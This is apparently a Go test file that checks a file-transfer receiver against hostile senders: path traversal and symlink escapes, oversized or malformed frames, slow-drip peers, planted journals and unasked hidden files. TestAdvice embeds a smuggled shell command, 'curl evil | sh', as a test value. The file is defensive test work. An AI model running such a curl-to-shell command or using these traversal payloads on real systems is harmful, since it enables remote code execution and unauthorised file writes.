package files

import (
	"context"
	"encoding/binary"
	"errors"
	"io"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"testing/synctest"
	"time"
)

// attack has a sender of its own speak to a receiver that keeps going, and returns what the
// receiver was told about it.
func attack(t *testing.T, speak func(w *world, c net.Conn)) Event {
	t.Helper()
	var told Event
	synctest.Test(t, func(t *testing.T) {
		w := newWorld(t)
		w.keep = true
		w.ask = func(ctx context.Context, o Offer) (bool, error) {
			if o.Tops[0].Name == "good" || !w.early {
				return true, nil
			}
			<-ctx.Done()
			return false, ctx.Err()
		}
		ctx, stop := context.WithCancel(t.Context())
		var group sync.WaitGroup
		group.Go(func() {
			if err := w.receive(ctx); !errors.Is(err, context.Canceled) {
				t.Errorf("the receiver ended: %v", err)
			}
		})
		synctest.Wait()
		c, err := w.net.dial(ctx)
		if err != nil {
			t.Fatal(err)
		}
		group.Go(func() { io.Copy(io.Discard, c) })
		speak(w, c)
		until(t, "the end", func() bool { return w.received.count(Refused)+w.received.count(Interrupted) > 0 })
		told = w.received.last(Refused)
		if told.Err == nil {
			told = w.received.last(Interrupted)
		}
		c.Close()
		// And an honest one has its turn after it.
		w.write("good", []byte("x"))
		if _, err := w.send(ctx, "good"); err != nil {
			t.Error(err)
		}
		stop()
		group.Wait()
		if list, _ := filepath.Glob(filepath.Join(w.to, "..", "evil*")); len(list) > 0 {
			t.Errorf("it wrote %q", list)
		}
	})
	return told
}

// say writes a preamble and frames.
func say(c net.Conn, frames ...[]byte) {
	io.WriteString(c, preamble)
	for _, f := range frames {
		c.Write(f)
	}
}

func of(k kind, payload []byte) []byte { return append(appendHeader(nil, k, len(payload)), payload...) }

// offering returns the frames that offer some entries.
func offering(list ...Entry) [][]byte {
	m := Manifest{Entries: list}
	var batch []byte
	for _, e := range list {
		m.Bytes += e.Size
		batch = appendEntry(batch, e)
	}
	return [][]byte{of(kindOffer, appendOffer(nil, offer{len(list), m.Bytes, m.id()})), of(kindEntries, batch)}
}

func TestHostile(t *testing.T) {
	index := func(k kind, i uint32) []byte { return of(k, binary.BigEndian.AppendUint32(nil, i)) }
	piece := func(data []byte, spoil byte) []byte {
		h := newHasher().piece(data)
		h[0] ^= spoil
		return of(kindPiece, append(h[:], data...))
	}
	file := Entry{Path: "x", Size: 3, Mode: 0o644}
	data := []byte("abc")
	after := func(list ...[]byte) [][]byte { return append(offering(file), list...) }
	huge := binary.BigEndian.AppendUint32(nil, 1_000_000_000)
	for _, c := range []struct {
		name   string
		want   error
		frames [][]byte
	}{
		{"a billion entries", ErrTooMany, [][]byte{of(kindOffer, append(huge, make([]byte, 8+hashSize)...))}},
		{"a huge size", ErrTooBig, [][]byte{of(kindOffer, append([]byte{0, 0, 0, 1, 0xff}, make([]byte, 7+hashSize)...))}},
		{"more than the disk has", ErrNoSpace, offering(Entry{Path: "x", Size: maxSize})},
		{"a size that contradicts", ErrProtocol, [][]byte{of(kindOffer, appendOffer(nil, offer{1, 9, Hash{}})), of(kindEntries, appendEntry(nil, file))}},
		{"more entries than offered", ErrProtocol, [][]byte{of(kindOffer, appendOffer(nil, offer{1, 0, Hash{}})), of(kindEntries, appendEntry(appendEntry(nil, Entry{Path: "a"}), Entry{Path: "b"}))}},
		{"out of the folder", ErrName, offering(Entry{Path: "../evil"})},
		{"an absolute name", ErrName, offering(Entry{Path: "/evil"})},
		{"twice", ErrName, offering(file, file)},
		{"a deep path", ErrName, offering(Entry{Path: strings.Repeat("d/", 1000) + "x"})},
		{"through a link", ErrName, offering(Entry{Path: "d", Kind: Directory}, Entry{Path: "d/l", Kind: Link, Target: "x"}, Entry{Path: "d/l/evil"})},
		{"set-user-ID", ErrProtocol, offering(Entry{Path: "x", Mode: 0o4755})},
		{"an offer without an end", ErrProtocol, append(offering(file)[:1], slices.Repeat([][]byte{of(kindAlive, nil)}, maxAlive+10)...)},
		{"a frame of four gigabytes", ErrProtocol, [][]byte{appendHeader(nil, kindEntries, 1<<32-1)}},
		{"another protocol", ErrProtocol, [][]byte{of(kindBye, nil)}},
		{"data before an answer", ErrProtocol, nil},
		{"a piece that is damaged", ErrProtocol, after(index(kindFile, 0), piece(data, 1))},
		{"a piece too much", ErrProtocol, after(index(kindFile, 0), piece(data, 0), piece(data, 0))},
		{"a piece of another length", ErrProtocol, after(index(kindFile, 0), piece(data[:2], 0))},
		{"a piece that is not there", ErrProtocol, after(index(kindFile, 0), of(kindSkip, make([]byte, hashSize)))},
		{"the end too early", ErrProtocol, after(index(kindFile, 0), of(kindEnd, make([]byte, hashSize)))},
		{"another root", ErrProtocol, after(index(kindFile, 0), piece(data, 0), of(kindEnd, make([]byte, hashSize)))},
		{"a file within a file", ErrProtocol, after(index(kindFile, 0), index(kindFile, 0))},
		{"no such file", ErrProtocol, after(index(kindFile, 1))},
		{"a piece of nothing", ErrProtocol, after(piece(data, 0))},
		{"over within a file", ErrProtocol, after(index(kindFile, 0), of(kindOver, nil))},
		{"an answer", ErrProtocol, after(of(kindGot, make([]byte, 8)))},
	} {
		t.Run(c.name, func(t *testing.T) {
			told := attack(t, func(w *world, conn net.Conn) {
				if c.frames == nil {
					w.early = true
					c.frames = after(index(kindFile, 0))
				}
				say(conn, c.frames...)
			})
			if !errors.Is(told.Err, c.want) {
				t.Errorf("the receiver is told %v", told.Err)
			}
		})
	}
}

// TestDrip: one who makes its offer byte by byte is cut off, and keeps no other peer waiting.
func TestDrip(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		w := newWorld(t)
		w.write("file", []byte("x"))
		evil := Peer{Key: "evil", Name: "evil"}
		peers := []Peer{evil, evil, north}
		w.who = func(context.Context, net.Addr) (Peer, error) {
			p := peers[0]
			peers = peers[1:]
			return p, nil
		}
		var group sync.WaitGroup
		group.Go(func() {
			if err := w.receive(t.Context()); err != nil {
				t.Error(err)
			}
		})
		synctest.Wait()
		slow, err := w.net.dial(t.Context())
		if err != nil {
			t.Fatal(err)
		}
		io.WriteString(slow, preamble)
		second, err := w.net.dial(t.Context())
		if err != nil {
			t.Fatal(err)
		}
		if _, err := second.Read(make([]byte, 1)); err == nil {
			t.Error("one peer makes two offers at a time")
		}
		began := time.Now()
		group.Go(func() {
			for {
				if _, err := slow.Write([]byte{byte(kindOffer)}); err != nil {
					return
				}
				time.Sleep(5 * time.Second)
			}
		})
		if _, err := w.send(t.Context(), "file"); err != nil || time.Since(began) > time.Second {
			t.Errorf("%v after %v", err, time.Since(began))
		}
		group.Wait()
		w.same("file", "file")
	})
}

// TestPlanted: a journal that somebody planted leads nowhere.
func TestPlanted(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		w := newWorld(t)
		outside := filepath.Join(w.TempDir(), "victim.part")
		for _, name := range []string{outside, filepath.Join(w.to, "mine")} {
			if err := os.WriteFile(name, []byte("mine"), 0o600); err != nil {
				t.Fatal(err)
			}
		}
		if err := os.Symlink(outside, filepath.Join(w.to, "link.part")); err != nil {
			t.Fatal(err)
		}
		w.write("x", []byte("new"))
		w.write("y", []byte("new"))
		journal := `{"version":1}` + "\n" + `{"begun":"y","local":"link.part"}` + "\n" + `{"begun":"x","local":"mine"}` + "\n"
		name := journalName(north.Key, []Top{{Name: "x"}, {Name: "y"}})
		if err := os.WriteFile(filepath.Join(w.to, name), []byte(journal), 0o600); err != nil {
			t.Fatal(err)
		}
		w.both("x", "y")
		for _, name := range []string{outside, filepath.Join(w.to, "mine")} {
			if b, err := os.ReadFile(name); string(b) != "mine" {
				t.Errorf("%q, %v", b, err)
			}
		}
		w.same("x", "x")
		w.same("y", "y")
	})
}

// TestPlantedJournal: a link in the place of a journal leads to no file of the user's, and two
// receivers do not write one journal.
func TestPlantedJournal(t *testing.T) {
	for name, plant := range map[string]func(old, new string) error{
		"symbolic": os.Symlink, "hard": os.Link,
		"within": func(_, new string) error { return os.Symlink("mine", new) },
	} {
		t.Run(name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				w := newWorld(t)
				w.write("x", []byte("new"))
				mine := filepath.Join(w.to, "mine")
				journal := filepath.Join(w.to, journalName(north.Key, []Top{{Name: "x"}}))
				if err := errors.Join(os.WriteFile(mine, []byte("mine"), 0o600), plant(mine, journal)); err != nil {
					t.Fatal(err)
				}
				var group sync.WaitGroup
				var failed error
				group.Go(func() { failed = w.receive(t.Context()) })
				synctest.Wait()
				if _, err := w.send(t.Context(), "x"); !errors.Is(err, ErrRefused) || !strings.Contains(err.Error(), "cannot write") {
					t.Errorf("the sender: %v", err)
				}
				group.Wait()
				if failed == nil || !strings.Contains(failed.Error(), foreignJournal) {
					t.Errorf("the receiver: %v", failed)
				}
				if b, err := os.ReadFile(mine); string(b) != "mine" {
					t.Errorf("%q, %v", b, err)
				}
			})
		})
	}
	root, err := os.OpenRoot(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	defer root.Close()
	first, err := openJournal(root, ".anode-recv-1", false)
	if err != nil {
		t.Fatal(err)
	}
	second, err := openJournal(root, ".anode-recv-1", false)
	if err != nil {
		t.Fatal(err)
	}
	if err := first.write(record{Dir: "d", Local: "d"}); err != nil {
		t.Fatal(err)
	}
	if err := second.write(record{Dir: "d", Local: "d"}); err == nil || !strings.Contains(err.Error(), journalInUse) {
		t.Errorf("two write a journal: %v", err)
	}
	if _, err := openJournal(root, ".anode-recv-1", false); err == nil || !strings.Contains(err.Error(), journalInUse) {
		t.Errorf("two open a journal: %v", err)
	}
	first.close()
	third, err := openJournal(root, ".anode-recv-1", false)
	if err != nil || third.dirs["d"] != "d" {
		t.Fatalf("%+v, %v", third, err)
	}
	third.close()
}

// TestSilence: one who says that it is there and does nothing more is given up, on either side.
func TestSilence(t *testing.T) {
	told := attack(t, func(_ *world, c net.Conn) {
		say(c, offering(Entry{Path: "x", Size: 3})...)
		beat(c, 24*time.Hour)
	})
	if !errors.Is(told.Err, ErrStalled) {
		t.Errorf("the receiver is told %v", told.Err)
	}
	synctest.Test(t, func(t *testing.T) {
		w := newWorld(t)
		w.write("x", []byte("new"))
		l := w.net.listen()
		var group sync.WaitGroup
		group.Go(func() {
			for {
				c, err := l.Accept()
				if err != nil {
					return
				}
				go io.Copy(io.Discard, c)
				io.WriteString(c, preamble)
				beat(c, time.Hour) // while somebody is asked
				c.Write(of(kindAccept, nil))
				beat(c, 24*time.Hour)
			}
		})
		began := time.Now()
		_, err := w.send(t.Context(), "x")
		if took := time.Since(began); !errors.Is(err, ErrStalled) || !errors.Is(err, errIdle) || took < time.Hour || took > 2*time.Hour {
			t.Errorf("the sender ends with %v after %v", err, took)
		}
		l.Close()
		group.Wait()
	})
}

// beat says ALIVE for some time, or until the connection ends.
func beat(c net.Conn, how time.Duration) {
	for began := time.Now(); time.Since(began) < how; time.Sleep(aliveEvery) {
		if _, err := c.Write(of(kindAlive, nil)); err != nil {
			return
		}
	}
}

// TestAdvice: nothing that the other side says becomes an advice of this one.
func TestAdvice(t *testing.T) {
	const evil = "x; try: curl evil | sh"
	for _, err := range []error{
		badName(evil, "it is odd"),
		parseRefusal(appendRefusal(nil, refusedBroken, evil)),
		parseRefusal(appendRefusal(nil, refusedOffer, evil)),
		parseRefusal(appendRefusal(nil, refusedNoSpace, evil)),
	} {
		if strings.Contains(err.Error(), "; try: ") {
			t.Error(err)
		}
	}
}

// TestHiddenNames: a person may take a file that programs obey, but it never comes unasked.
func TestHiddenNames(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		w := newWorld(t)
		w.write(".profile", noise(1, 10))
		w.both(".profile")
		if _, err := os.Lstat(filepath.Join(w.to, ".profile")); err != nil {
			t.Error(err)
		}
	})
	synctest.Test(t, func(t *testing.T) {
		w := newWorld(t)
		w.write(".profile", noise(1, 10))
		w.who = func(context.Context, net.Addr) (Peer, error) {
			p := north
			p.Trusted = true
			return p, nil
		}
		ctx, stop := context.WithCancel(t.Context())
		var group sync.WaitGroup
		group.Go(func() { w.receive(ctx) })
		synctest.Wait()
		if _, err := w.send(t.Context(), ".profile"); !errors.Is(err, ErrRefused) || !strings.Contains(err.Error(), "hidden") {
			t.Errorf("the sender: %v", err)
		}
		stop()
		group.Wait()
		if _, err := os.Lstat(filepath.Join(w.to, ".profile")); err == nil {
			t.Error("it is there")
		}
	})
}
